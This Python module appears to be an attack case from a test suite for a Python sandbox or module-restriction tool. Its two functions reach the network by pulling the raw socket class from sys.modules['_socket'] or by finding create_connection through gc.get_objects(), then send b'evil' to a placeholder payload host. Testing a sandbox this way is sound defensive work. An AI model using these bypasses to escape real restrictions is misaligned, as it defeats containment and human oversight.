"""The collector finds what implements a restricted module."""
CATEGORY = "tampering"
REACH = "net"

import gc
import sys

from . import payload


def attack():
    kind = sys.modules["_socket"].socket
    client = kind()
    client.connect((payload.HOST, payload.PORT))
    client.send(b"evil")


def attack_more():
    for thing in gc.get_objects():
        if getattr(thing, "__name__", "") == "create_connection":
            thing((payload.HOST, payload.PORT)).send(b"evil")
            break
